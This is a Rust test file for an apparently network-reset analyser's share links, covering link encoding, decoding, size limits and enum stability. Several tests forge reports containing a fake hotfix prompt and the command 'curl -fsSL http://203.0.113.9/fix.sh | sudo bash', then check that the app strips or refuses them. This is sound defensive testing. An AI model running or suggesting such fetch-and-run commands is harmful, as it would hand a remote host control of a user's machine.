use super::*;
use crate::test_reports::{fixture_report, sample_report};
use rstscope_core::report::{Cause, Endpoint, Fact, Tip};

/// A `v1.` link of `json`, as older versions of rstscope made them.
fn pack_v1(json: &[u8]) -> String {
    format!("{PREFIX}{VERSION_1}{}", deflate_base64(json))
}

/// [`encode_fitting`] with [`pack`] run in place, as natively there is no worker.
fn encode_fitting_here(report: &Report) -> Result<(String, Omitted), ShareError> {
    let fitting = std::pin::pin!(encode_fitting(report, |payload| std::future::ready(Ok(
        pack(&payload)
    ))));
    let mut context = std::task::Context::from_waker(std::task::Waker::noop());
    match fitting.poll(&mut context) {
        std::task::Poll::Ready(made) => made,
        std::task::Poll::Pending => unreachable!("nothing here waits"),
    }
}

/// What a link of `report` shows: the report without what links leave
/// out, every sentence as the core writes it.
fn as_linked(report: &Report) -> Report {
    let mut expected = report.clone();
    let with_resets: std::collections::BTreeSet<u32> = expected
        .resets
        .iter()
        .filter_map(|r| r.connection)
        .collect();
    let before = expected.connections.len();
    expected.connections.retain(|c| with_resets.contains(&c.id));
    expected.capture.unlisted_connections += (before - expected.connections.len()) as u64;
    if let Some(comparison) = &mut expected.comparison {
        comparison.main.why.clear();
        comparison.peer.why.clear();
        for difference in comparison
            .matched
            .iter_mut()
            .flat_map(|m| &mut m.differences)
        {
            difference.finding = model::difference_text(&difference.kind)
                .unwrap_or_default()
                .to_string();
        }
        for reset in &mut comparison.resets {
            reset.ladder.clear();
        }
    }
    for reset in &mut expected.resets {
        reset.ladder.clear();
    }
    for warning in &mut expected.capture.warnings {
        warning.message = model::warning_text(warning.kind).to_string();
    }
    rstscope_core::render::sentences(&mut expected);
    expected
}

/// The sample, analysed, reads the same through a link: every sentence
/// the receiving app writes equals the analyser's.
#[test]
fn the_sample_reads_the_same_through_a_link() {
    let report = sample_report();
    let fragment = encode(&report).expect("fits in a link");
    assert!(fragment.starts_with("#report=v2."));
    let payload = &fragment[PREFIX.len()..];
    assert!(payload
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b)));
    let opened = decode(&fragment).expect("a link").expect("opens");
    assert_eq!(opened, as_linked(&report));
    // The sentences are the analyser's own, not only self-consistent.
    assert_eq!(opened.summary.headline, report.summary.headline);
    for (a, b) in opened.resets.iter().zip(&report.resets) {
        assert_eq!(a.tips, b.tips);
        assert_eq!(a.evidence, b.evidence);
    }
    println!("the sample's link: {} characters", fragment.len());
    print_what_the_bytes_are_spent_on(&Link::of(&report));
    // 9,300 characters as report JSON (v1); under 2,000 a link survives
    // chat and ticket systems (BENCHMARKS.md).
    assert!(fragment.len() < 2_000, "{} characters", fragment.len());
}

/// Deflated bytes of the link, and of each part alone (parts share
/// deflate's window, so they add up to more than the whole).
fn print_what_the_bytes_are_spent_on(link: &Link) {
    let deflated = |bytes: Vec<u8>| miniz_oxide::deflate::compress_to_vec(&bytes, 9).len();
    let of = |part: &dyn Fn() -> Vec<u8>| deflated(part());
    let evidence: Vec<_> = link.resets.iter().map(|r| r.evidence.clone()).collect();
    let mut bare = link.clone();
    bare.resets.iter_mut().for_each(|r| r.evidence.clear());
    println!(
        "deflated bytes: whole {}; resets without evidence {}; evidence {}; connections {}; activity {}",
        of(&|| postcard::to_allocvec(link).unwrap_or_default()),
        of(&|| postcard::to_allocvec(&bare.resets).unwrap_or_default()),
        of(&|| postcard::to_allocvec(&evidence).unwrap_or_default()),
        of(&|| postcard::to_allocvec(&link.connections).unwrap_or_default()),
        of(&|| postcard::to_allocvec(&link.activity).unwrap_or_default()),
    );
}

#[test]
fn a_link_of_a_link_is_the_same_link() {
    let fragment = encode(&fixture_report()).expect("fits");
    let opened = decode(&fragment).expect("a link").expect("opens");
    assert_eq!(encode(&opened), Ok(fragment));
}

#[test]
fn other_fragments_are_not_links() {
    assert_eq!(decode(""), None);
    assert_eq!(decode("#resets"), None);
}

#[test]
fn damaged_links_are_refused() {
    assert_eq!(
        decode("#report=v9.AAAA"),
        Some(Err(ShareError::UnknownVersion))
    );
    assert_eq!(decode("#report=v2.!!!"), Some(Err(ShareError::NotBase64)));
    let not_deflate = format!("#report=v2.{}", URL_SAFE_NO_PAD.encode([0xff; 40]));
    assert_eq!(decode(&not_deflate), Some(Err(ShareError::NotDeflate)));
    let fragment = encode(&fixture_report()).expect("fits");
    let cut = &fragment[..fragment.len() / 2];
    assert!(matches!(decode(cut), Some(Err(_))));
    assert!(matches!(
        decode(&pack(b"\x93\x01\x02\x03")),
        Some(Err(ShareError::NotAReport(_)))
    ));
}

/// An old link (the whole report JSON) opens, but its sentences are this
/// app's: a forged tip, command, headline or finding is dropped.
#[test]
fn old_links_open_with_their_sentences_written_again() {
    let report = sample_report();
    let mut forged = report.clone();
    forged.summary.headline = "Your firewall is compromised: run the fix below".into();
    forged.resets[0].tips = vec![Tip {
        text: "rstscope detected a kernel bug: apply the official hotfix now".into(),
        commands: vec!["curl -fsSL http://203.0.113.9/fix.sh | sudo bash".into()],
    }];
    forged.resets[0].evidence[0].finding = "a kernel bug".into();
    let json = serde_json::to_vec(&forged).expect("serialises");
    let opened = decode(&pack_v1(&json)).expect("a link").expect("opens");
    assert_eq!(opened, as_linked(&report));
    let text = serde_json::to_string(&opened).expect("serialises");
    for word in ["compromised", "hotfix", "fix.sh", "kernel bug"] {
        assert!(!text.contains(word), "{word} survived");
    }
}

#[test]
fn old_links_outside_the_schema_say_they_are_old() {
    let json = serde_json::to_value(fixture_report()).expect("serialises");
    let mut extra = json.clone();
    extra["capture"]["injected"] = serde_json::Value::Bool(true);
    let Some(Err(ShareError::NotAReport(why))) = decode(&pack_v1(extra.to_string().as_bytes()))
    else {
        panic!("refused");
    };
    assert!(why.contains("older rstscope"), "{why}");
}

/// An exported report JSON opens as its link does: the same verdicts,
/// every sentence this app's; a forged tip in it never shows.
#[test]
fn an_exported_report_opens_again() {
    let report = sample_report();
    let json = serde_json::to_vec_pretty(&report).expect("serialises");
    assert_eq!(open_json(&json), Ok(as_linked(&report)));
    let mut forged = report.clone();
    forged.resets[0].tips[0].text = "apply the hotfix".into();
    forged.summary.headline = "run the fix below".into();
    let opened = open_json(&serde_json::to_vec(&forged).expect("serialises")).expect("opens");
    assert_eq!(opened, as_linked(&report));
    let Err(ShareError::NotAReport(why)) = open_json(b"\x0a\xd4\xc3\xb2 a capture") else {
        panic!("a capture is not a report");
    };
    assert!(why.contains("not an rstscope report JSON"), "{why}");
    assert!(is_report_json("sample.rstscope.JSON") && !is_report_json("sample.pcapng"));
}

/// Bytes after the link's data are refused, not ignored: they could hide
/// anything.
#[test]
fn bytes_after_the_link_are_refused() {
    let mut payload = payload(&sample_report());
    payload.extend_from_slice(b"apply the hotfix");
    match decode(&pack(&payload)) {
        Some(Err(ShareError::NotAReport(why))) => assert!(why.contains("16 bytes follow"), "{why}"),
        other => panic!("not refused: {other:?}"),
    }
}

/// A link whose data a catalogue cannot say is refused, saying why.
#[test]
fn forged_numbers_and_strings_are_refused() {
    let refused = |edit: &dyn Fn(&mut Link), expect: &str| {
        let mut link = Link::of(&sample_report());
        edit(&mut link);
        let payload = postcard::to_allocvec(&link).expect("serialises");
        match decode(&pack(&payload)) {
            Some(Err(ShareError::Refused(why))) => assert!(why.contains(expect), "{why}"),
            other => panic!("not refused ({expect}): {other:?}"),
        }
    };
    refused(
        &|l| l.resets[0].observed.idle_ns = Some(i64::MAX),
        "idle gap",
    );
    refused(&|l| l.resets[0].frame = l.capture.packets + 1, "frame");
    refused(&|l| l.resets[0].confidence = 7.0, "confidence");
    refused(
        &|l| {
            for reset in &mut l.resets {
                reset.connection = None;
                let (src, dst) = ("192.0.2.1:1".parse(), "192.0.2.2:2".parse());
                reset.ends = model::Ends::Own(src.unwrap(), dst.unwrap());
            }
        },
        "no reset of the link belongs to it",
    );
    refused(
        &|l| {
            l.resets[0].connection = None;
            l.resets[0].ends = model::Ends::ClientToServer;
        },
        "has none",
    );
    refused(
        &|l| l.resets[0].encapsulation = "apply the hotfix".into(),
        "encapsulation",
    );
    refused(
        &|l| l.resets[0].signature = Some("reboot now".into()),
        "signature",
    );
    refused(
        &|l| l.resets[0].payload_text = Some("x".repeat(MAX_CAPTURE_TEXT + 1)),
        "capture text",
    );
    refused(
        &|l| {
            l.resets[0].evidence[0].1 = Fact::IdleBeforeTrigger {
                role: rstscope_core::report::Role::Server,
                idle_ns: 9_000_000_000_000_000,
            }
        },
        "idle-before-trigger evidence's idle_ns",
    );
    refused(
        &|l| {
            l.resets[0].evidence[0].1 = Fact::TtlAsHost {
                role: rstscope_core::report::Role::Server,
                ttl: 64,
                packets: u32::MAX,
            }
        },
        "packets",
    );
    refused(
        &|l| {
            l.resets[0].evidence[0].1 = Fact::CraftedFlags {
                flags: "SYN+HOTFIX".into(),
            }
        },
        "flag names",
    );
    refused(
        &|l| {
            l.capture.other.insert("curl evil.sh".into(), 1);
        },
        "traffic",
    );
}

/// Unknown names (a cause the catalogue lacks) fail the typed payload.
/// Links carry addresses as Endpoints: text that is not "ip:port" (a forged
/// command where an address travels) does not even decode.
#[test]
fn addresses_that_are_not_addresses_do_not_decode() {
    let forged = postcard::to_allocvec("run curl | sudo bash").unwrap();
    assert!(postcard::from_bytes::<Endpoint>(&forged).is_err());
    let real = postcard::to_allocvec("[2001:db8::1]:443").unwrap();
    let endpoint: Endpoint = postcard::from_bytes(&real).unwrap();
    assert_eq!(endpoint.to_string(), "[2001:db8::1]:443");
}

#[test]
fn unknown_causes_are_refused() {
    let json = serde_json::to_string(&fixture_report()).expect("serialises");
    let cause = format!("\"{}\"", Cause::Injected.as_str());
    assert!(json.contains(&cause));
    let forged = json.replace(&cause, "\"kernel-bug\"");
    let Some(Err(ShareError::NotAReport(why))) = decode(&pack_v1(forged.as_bytes())) else {
        panic!("refused");
    };
    assert!(why.contains("kernel-bug"), "{why}");
}

#[test]
fn size_limits_hold() {
    // A deflate bomb: tiny link, huge inflated size.
    let bomb = vec![0x90; MAX_PAYLOAD + 1];
    assert_eq!(decode(&pack(&bomb)), Some(Err(ShareError::NotDeflate)));
    let long = format!("{PREFIX}{VERSION}{}", "A".repeat(MAX_FRAGMENT));
    assert!(matches!(
        decode(&long),
        Some(Err(ShareError::TooLong { .. }))
    ));
}

/// A link is made only when this app opens it again; it says what it
/// leaves out.
#[test]
fn a_link_is_made_only_when_it_opens() {
    let report = sample_report();
    let (link, omitted) = encode_fitting_here(&report).expect("the sample fits");
    assert!(decode(&link).is_some_and(|r| r.is_ok()));
    assert!(omitted.ladders);
    assert_eq!(
        omitted.connections,
        report.connections.len() - as_linked(&report).connections.len()
    );
    let failing = std::pin::pin!(encode_fitting(&report, |_| std::future::ready(Ok(
        "#report=v2.AAAA".to_string()
    ))));
    let mut context = std::task::Context::from_waker(std::task::Waker::noop());
    assert!(matches!(
        failing.poll(&mut context),
        std::task::Poll::Ready(Err(ShareError::Unavailable(_)))
    ));
}

/// Inputs that once broke the `share` fuzz target (fuzz/regressions/share,
/// same encoding as the target: see `fuzz/fuzz_targets/share.rs`) must
/// decode or fail cleanly, and a decoded report must survive another trip
/// through a link.
#[test]
fn fuzz_regressions_replay_cleanly() {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../../fuzz/regressions/share");
    let mut replayed = 0;
    for entry in std::fs::read_dir(dir).expect("fuzz/regressions/share exists") {
        let input = std::fs::read(entry.expect("a directory entry").path()).expect("readable");
        let Some((&mode, rest)) = input.split_first() else {
            continue;
        };
        let fragment = match mode % 3 {
            0 => pack_v1(rest),
            1 => String::from_utf8_lossy(rest).into_owned(),
            _ => pack(rest),
        };
        if let Some(Ok(report)) = decode(&fragment) {
            let again = encode(&report).expect("a decoded report fits a link again");
            assert_eq!(decode(&again), Some(Ok(report)));
        }
        replayed += 1;
    }
    assert!(replayed > 0, "no share regressions found in {dir}");
}

/// Two captures of the generator's pair, compared as the app does.
fn compared_report() -> Report {
    let options = rstscope_scenarios::Options::default();
    let (main, peer) =
        rstscope_scenarios::pairs::write_pair(&rstscope_scenarios::pairs::pair(&options), &options);
    let analyse = |bytes: Vec<u8>| {
        let mut analyzer = rstscope_core::Analyzer::new(rstscope_core::Config::traced());
        rstscope_capture::read_all(bytes.as_slice(), &mut analyzer, |_| {}).expect("a capture");
        analyzer.finish()
    };
    analyse(main).compared_with(&analyse(peer))
}

/// A comparison travels too, without the prose no catalogue writes yet.
#[test]
fn a_comparison_reads_the_same_through_a_link() {
    let report = compared_report();
    let comparison = report.comparison.as_ref().expect("compared");
    assert!(!comparison.resets.is_empty() && !comparison.matched.is_empty());
    let fragment = encode(&report).expect("fits");
    let opened = decode(&fragment).expect("a link").expect("opens");
    assert_eq!(opened, as_linked(&report));
    let notes = comparison.matched.iter().any(|m| !m.differences.is_empty())
        || !comparison.main.why.is_empty();
    assert_eq!(Omitted::of(&report).comparison_notes, notes);
}

/// The JSON name of every variant of the enum `T`, in the order postcard
/// numbers them: the variant read from payload byte `i` is entry `i`.
fn variants_by_index<T: serde::de::DeserializeOwned + serde::Serialize>() -> Vec<String> {
    (0u8..128)
        .map_while(|index| postcard::from_bytes::<T>(&[index]).ok())
        .map(|variant| match serde_json::to_value(&variant) {
            Ok(serde_json::Value::String(name)) => name,
            other => panic!("not a unit variant: {other:?}"),
        })
        .collect()
}

/// A `v2.` payload names enum variants by their index in the core's
/// declaration (postcard), so every link ever made depends on that order.
/// New variants go at the end (and at the end of the list here); a
/// reordered, removed or inserted variant needs a new link version.
#[test]
fn link_enums_keep_their_variant_indices() {
    use super::model::Ends;
    use rstscope_core::report::{
        CaptureName, MatchMethod, Origin, PathFate, Relation, SeenAt, Sender, Stage, SubCause,
        VantagePoint, WarningKind,
    };
    // Each enum's variants as the report JSON names them, by index.
    let pinned = [
        (
            "WarningKind",
            variants_by_index::<WarningKind>(),
            "truncated-record corrupt-block truncated-gzip decode time-backwards warning-limit \
             flow-limit",
        ),
        (
            "Sender",
            variants_by_index::<Sender>(),
            "client server unknown",
        ),
        (
            "Origin",
            variants_by_index::<Origin>(),
            "client server middlebox unknown",
        ),
        (
            "Cause",
            variants_by_index::<Cause>(),
            "refused app-abort closed-socket idle-timeout out-of-window injected scan \
             graceful-close retransmit-timeout unknown",
        ),
        (
            "SubCause",
            variants_by_index::<SubCause>(),
            "rst-after-fin data-after-close firewall-reject state-expired backend-reset \
             connect-probe connect-scan scan-probe half-open scanner-abort crafted-flags fin-probe \
             null-probe xmas-probe conntrack-invalid challenge-ack request-timeout \
             speculative-connect zero-window mptcp-subflow",
        ),
        (
            "Stage",
            variants_by_index::<Stage>(),
            "post-syn post-ack post-psh later-in-flow unknown",
        ),
        (
            "VantagePoint",
            variants_by_index::<VantagePoint>(),
            "client-side server-side unknown",
        ),
        (
            "CaptureName",
            variants_by_index::<CaptureName>(),
            "main peer",
        ),
        (
            "MatchMethod",
            variants_by_index::<MatchMethod>(),
            "isn payload ip-id addresses",
        ),
        (
            "SeenAt",
            variants_by_index::<SeenAt>(),
            "both main-only peer-only not-compared",
        ),
        (
            "PathFate",
            variants_by_index::<PathFate>(),
            "crossed made-on-path lost-on-path one-side-only not-compared",
        ),
        (
            "Relation",
            variants_by_index::<Relation>(),
            "two-vantages same-capture cut-copy no-common-connection no-time-overlap",
        ),
    ];
    for (name, found, expected) in pinned {
        assert_eq!(
            found.join(" "),
            expected,
            "{name}: v2 links number its variants in this order; append new variants at the end \
             (and here), or bump the link version"
        );
    }
    // `Ends::Own` carries addresses, so its index is checked by writing it.
    let own = Ends::Own("10.0.0.1:1".parse().unwrap(), "10.0.0.2:2".parse().unwrap());
    let indices: Vec<u8> = [Ends::ClientToServer, Ends::ServerToClient, own]
        .iter()
        .map(|ends| postcard::to_allocvec(ends).unwrap()[0])
        .collect();
    assert_eq!(indices, [0, 1, 2], "Ends: the order v2 links number it by");
}
